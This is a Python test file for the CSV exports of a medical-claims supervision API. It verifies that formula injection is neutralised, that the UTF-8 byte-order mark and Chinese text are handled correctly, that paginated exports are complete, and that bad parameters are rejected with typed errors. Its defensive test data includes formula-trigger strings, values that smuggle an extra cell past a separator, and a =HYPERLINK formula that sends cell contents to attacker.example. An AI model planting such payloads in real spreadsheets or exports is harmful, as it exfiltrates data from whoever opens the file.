"""The supervisors' CSV files: no cell a spreadsheet would run as a formula, a UTF-8 byte-order
mark once at the start so that Chinese reads as Chinese, every row of a many-page export, and a
typed 400 (never a 500) for a bad parameter.
"""

from __future__ import annotations

import codecs
import csv
import io
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest
from sqlalchemy import insert

from adjudication.tracecodes import AnomalyKind
from api import exports
from api.db import models
from api.db.session import create_engine, create_sessionmaker
from api.ids import uuid7
from api.services import supervision, tracing
from tests.api.conftest import Service
from tests.api.documents import EMPLOYEE, GENERIC_A, HOSPITAL, REGION, REVERSE, SETTLE, TRASTUZUMAB, claim, codes

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
FORMULAS = ["=1+2", "+1+2", "-1+2", "@SUM(1,2)", "\t=1+2", "\r=1+2", "\n=1+2"]
"""Scanned "traceability codes" a cashier could type, each beginning with a formula trigger."""
SMUGGLED = ['x",=1+2', "x;=1+2"]
"""Codes that would open a new cell at a separator or quote, were the cell not quoted."""
NOTES = ['=HYPERLINK("http://attacker.example/?"&A1,"点击")', "+1+2", "-1+2", "@SUM(1,2)"]
CHINESE = "已核实：扫码枪重复读取，已退药重扫"
ANOMALIES = "query { anomalies(first: 100) { edges { node { id code } } } }"
HANDLE = """mutation($i: HandleAnomalyInput!) { handleAnomaly(input: $i) { __typename
  ... on Anomaly { steps { note } } ... on Error { code message } } }"""


async def export(service: Service, path: str, params: Any = None, token: str | None = None) -> httpx.Response:
    """GET an export as the region's supervisor (or as `token`)."""
    bearer = token or service.tokens.supervisor()
    return await service.client.get(path, params=params, headers={"authorization": f"Bearer {bearer}"})


def read(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


async def flag_codes(service: Service, serial: str, scanned: list[str]) -> None:
    """Settle a line whose codes are all malformed at an institution that accepts and flags them."""
    await service.load(
        {"trace_policies": [{"institution": HOSPITAL, "drug": GENERIC_A, "invalid_codes": "accept_and_flag"}]}
    )
    line = {"drug": GENERIC_A, "quantity": len(scanned), "unitPrice": "250.00", "traceCodes": scanned}
    request = claim(serial, person=EMPLOYEE, visit="OUTPATIENT", diagnoses=("I10",), lines=[line])
    result = (await service.graphql(SETTLE, {"claim": request}))["settle"]
    assert result["__typename"] == "Settlement", result


async def test_no_cell_of_an_export_begins_a_formula_and_every_value_reads_back_whole(service: Service) -> None:
    await flag_codes(service, "X-FORMULAS", FORMULAS + SMUGGLED)
    edges = (await service.graphql(ANOMALIES))["anomalies"]["edges"]
    by_code = {edge["node"]["code"]: edge["node"]["id"] for edge in edges}
    notes = {by_code[code]: note for code, note in zip(FORMULAS[:5], [*NOTES, CHINESE], strict=True)}
    supervisor = service.as_(service.tokens.supervisor())
    for anomaly_id, note in notes.items():
        handled = await service.graphql(HANDLE, {"i": {"id": anomaly_id, "status": "EXPLAINED", "note": note}})
        assert handled["handleAnomaly"] == {"__typename": "Anomaly", "steps": [{"note": note}]}
        decided = await supervisor.graphql(HANDLE, {"i": {"id": anomaly_id, "status": "DISMISSED", "note": note}})
        assert decided["handleAnomaly"]["__typename"] == "Anomaly"

    response = await export(service, "/exports/anomalies.csv")
    rows = {row["id"]: row for row in read(response)}
    steps = await export(service, "/exports/anomaly-steps.csv")

    assert set(FORMULAS + SMUGGLED) <= set(by_code)
    for code in FORMULAS:
        assert rows[by_code[code]]["code"] == "'" + code
    for code in SMUGGLED:
        assert rows[by_code[code]]["code"] == code
    assert '"x"",=1+2"' in response.text and '"x;=1+2"' in response.text  # quoted: one cell each
    for anomaly_id, note in notes.items():
        written = note if note == CHINESE else "'" + note
        assert (rows[anomaly_id]["explanation"], rows[anomaly_id]["reason"]) == (written, written)
    assert sorted(row["note"] for row in read(steps)) == sorted(
        (note if note == CHINESE else "'" + note) for note in [*NOTES, CHINESE] * 2
    )
    cells = [value for row in [*rows.values(), *read(steps)] for value in row.values()]
    assert cells and not [value for value in cells if value.startswith(TRIGGERS)]


async def test_every_export_starts_with_one_utf8_byte_order_mark(service: Service) -> None:
    settled = (await service.graphql(SETTLE, {"claim": claim("X-BOM")}))["settle"]
    code = settled["explanation"]["lines"][0]["traceCodes"][0]

    files = [
        await export(service, "/exports/anomalies.csv"),
        await export(service, "/exports/anomaly-steps.csv"),
        await export(service, "/exports/trace-code.csv", {"code": code}),
        await export(service, "/exports/risk.csv", {"institution": HOSPITAL}),
    ]

    for response in files:
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.content.startswith(codecs.BOM_UTF8)
        assert response.content.count(codecs.BOM_UTF8) == 1
    assert [row["code"] for row in read(files[2])] == [code]


async def test_chinese_text_round_trips_through_the_file_as_utf8(service: Service) -> None:
    await flag_codes(service, "X-CHINESE", ["扫码失败"])
    edge = (await service.graphql(ANOMALIES))["anomalies"]["edges"][0]["node"]
    await service.graphql(HANDLE, {"i": {"id": edge["id"], "status": "EXPLAINED", "note": CHINESE}})

    response = await export(service, "/exports/anomalies.csv")
    steps = await export(service, "/exports/anomaly-steps.csv")

    assert CHINESE.encode() in response.content
    assert [(row["code"], row["explanation"]) for row in read(response)] == [("扫码失败", CHINESE)]
    assert [(row["code"], row["note"]) for row in read(steps)] == [("扫码失败", CHINESE)]


async def test_a_many_page_anomaly_export_returns_every_row_once(service: Service) -> None:
    """Planted as an import would write them: three pages of the real page size, plus one."""
    count = 3 * supervision.PAGE + 1
    now = datetime.now(UTC)
    planted = [
        tracing.anomaly(
            AnomalyKind.NO_CODE_STOCK,
            f"planted:{index}",
            institution=HOSPITAL,
            region=REGION,
            settlement_id=None,
            drug=GENERIC_A,
            code=None,
            at=now,
            detected_by="scan",
            message="planted",
        )
        for index in range(count)
    ]
    engine = create_engine(service.database_url)
    try:
        async with create_sessionmaker(engine)() as session:
            await session.execute(insert(models.Anomaly.__table__), [anomaly.row() for anomaly in planted])
            await session.commit()
    finally:
        await engine.dispose()

    rows = read(await export(service, "/exports/anomalies.csv", {"kind": "NO_CODE_STOCK"}))

    assert sorted(row["id"] for row in rows) == sorted(str(anomaly.id) for anomaly in planted)


async def test_a_many_page_code_history_streams_every_event_in_time_order(service: Service) -> None:
    """Events of one code, many sharing one moment: the pages' keyset breaks ties by id."""
    code = codes(TRASTUZUMAB, 1)[0]
    moments = [datetime(2026, 3, 1, tzinfo=UTC), datetime(2026, 3, 2, tzinfo=UTC)]
    planted = [
        {
            "id": uuid7(),
            "code": code,
            "drug_code": TRASTUZUMAB,
            "kind": "sold" if index % 2 == 0 else "returned",
            "institution_code": HOSPITAL,
            "region": REGION,
            "settlement_id": None,
            "line_index": index,
            "units": 1,
            "patient_index": "legacy",
            "occurred_at": moments[index * 2 // (2 * supervision.PAGE + 1)],
        }
        for index in range(2 * supervision.PAGE + 1)
    ]
    engine = create_engine(service.database_url)
    try:
        async with create_sessionmaker(engine)() as session:
            await session.execute(insert(models.TraceEvent.__table__), planted)
            await session.commit()
    finally:
        await engine.dispose()

    rows = read(await export(service, "/exports/trace-code.csv", {"code": code}))

    expected = sorted(planted, key=lambda event: (event["occurred_at"], event["id"]))
    assert [row["line_index"] for row in rows] == [str(event["line_index"]) for event in expected]


async def test_with_a_small_page_the_exports_read_page_by_page_what_the_api_wrote(
    service: Service, monkeypatch: pytest.MonkeyPatch
) -> None:
    code = codes(TRASTUZUMAB, 1)[0]
    line = [{"drug": TRASTUZUMAB, "quantity": 1, "unitPrice": "1500.00", "traceCodes": [code]}]
    for round_ in range(4):  # sold, returned, sold again, ...: 9 events of one code
        sold = (await service.graphql(SETTLE, {"claim": claim(f"X-PAGE-{round_}", lines=line)}))["settle"]
        await service.graphql(REVERSE, {"input": {"id": sold["id"], "reason": "returned"}})
    await service.graphql(SETTLE, {"claim": claim("X-PAGE-LAST", lines=line)})
    await flag_codes(service, "X-PAGE-FLAGS", [f"BAD-{index}" for index in range(9)])
    monkeypatch.setattr(supervision, "PAGE", 4)

    events = read(await export(service, "/exports/trace-code.csv", {"code": code}))
    anomalies = read(await export(service, "/exports/anomalies.csv", {"kind": "MALFORMED_CODE"}))

    assert [row["kind"] for row in events] == ["sold", "returned"] * 4 + ["sold"]
    assert sorted(row["code"] for row in anomalies) == sorted(f"BAD-{index}" for index in range(9))


BAD_PARAMETERS = [
    ("/exports/anomalies.csv", {"from": "2026-02-30"}, "INVALID_FIELD", "from"),
    ("/exports/anomalies.csv", {"to": "yesterday"}, "INVALID_FIELD", "to"),
    ("/exports/anomalies.csv", {"from": "20260101"}, "INVALID_FIELD", "from"),
    ("/exports/anomalies.csv", {"from": "2026-06-01", "to": "2026-05-01"}, "INVALID_FIELD", "from"),
    ("/exports/anomalies.csv", {"kind": "CODE_STOLEN"}, "INVALID_FIELD", "kind"),
    ("/exports/anomalies.csv", {"status": "closed"}, "INVALID_FIELD", "status"),
    ("/exports/anomalies.csv", {"institutoin": HOSPITAL}, "UNKNOWN_FIELD", "institutoin"),
    ("/exports/anomalies.csv", [("kind", "CODE_REUSED"), ("kind", "NO_PRESCRIPTION")], "DUPLICATE", "kind"),
    ("/exports/anomaly-steps.csv", {"status": "closed"}, "INVALID_FIELD", "status"),
    ("/exports/anomaly-steps.csv", {"from": "2026-06-01", "to": "2026-05-01"}, "INVALID_FIELD", "from"),
    ("/exports/anomaly-steps.csv", {"step": "explained"}, "UNKNOWN_FIELD", "step"),
    ("/exports/trace-code.csv", {}, "MISSING_FIELD", "code"),
    ("/exports/trace-code.csv", {"code": " "}, "MISSING_FIELD", "code"),
    ("/exports/trace-code.csv", {"code": "1", "drug": GENERIC_A}, "UNKNOWN_FIELD", "drug"),
    ("/exports/risk.csv", {}, "MISSING_FIELD", "institution"),
    ("/exports/risk.csv", {"institution": HOSPITAL, "start": "2026-1-1"}, "INVALID_FIELD", "start"),
    ("/exports/risk.csv", {"institution": HOSPITAL, "end": "2026-12-32"}, "INVALID_FIELD", "end"),
    (
        "/exports/risk.csv",
        {"institution": HOSPITAL, "start": "2026-12-31", "end": "2026-01-01"},
        "INVALID_FIELD",
        "start",
    ),
]


@pytest.mark.parametrize(
    ("path", "params", "code", "field"), BAD_PARAMETERS, ids=[f"{p[0][9:]}:{p[3]}:{p[2]}" for p in BAD_PARAMETERS]
)
async def test_a_bad_parameter_is_a_typed_400(service: Service, path: str, params: Any, code: str, field: str) -> None:
    response = await export(service, path, params)

    assert response.status_code == 400, response.text
    (error,) = response.json()["errors"]
    assert error["extensions"] == {"code": code, "field": field}
    assert error["message"].startswith(f"{field}: ")


@pytest.mark.parametrize(
    ("path", "params", "column", "value"),
    [
        ("/exports/anomalies.csv", {"from": "0001-01-01", "to": "9999-12-31"}, "code", "'=1+2"),
        ("/exports/anomalies.csv", {"status": "OPEN", "kind": "malformed_code", "region": REGION}, "code", "'=1+2"),
        ("/exports/risk.csv", {"institution": HOSPITAL}, "kind", "MALFORMED_CODE"),
        ("/exports/risk.csv", {"institution": HOSPITAL, "start": "0001-01-01", "end": "9999-12-31"}, "anomalies", "1"),
    ],
    ids=["anomalies at the calendar's edges", "anomalies in any letter case", "risk of all time", "risk at the edges"],
)
async def test_the_calendars_edges_and_open_periods_are_answered(
    service: Service, path: str, params: dict[str, str], column: str, value: str
) -> None:
    await flag_codes(service, "X-EDGES", ["=1+2"])

    rows = read(await export(service, path, params))

    assert [row[column] for row in rows] == [value]


async def test_the_risk_of_an_institution_out_of_sight_reads_as_not_found(service: Service) -> None:
    hidden = await export(service, "/exports/risk.csv", {"institution": HOSPITAL}, service.tokens.supervisor("320100"))
    missing = await export(service, "/exports/risk.csv", {"institution": "H999999"})

    assert (hidden.status_code, missing.status_code) == (404, 404)
    for response in (hidden, missing):
        assert response.json()["errors"][0]["extensions"] == {"code": "NOT_FOUND", "field": "institution"}


def test_only_typed_integers_are_exempt_from_the_formula_rule() -> None:
    values = (-3, 0, None, "-3", "=1", "@a", "\r1", "a=1", " =1", "拒付")
    assert [exports.cell(value) for value in values] == [-3, 0, "", "'-3", "'=1", "'@a", "'\r1", "a=1", " =1", "拒付"]
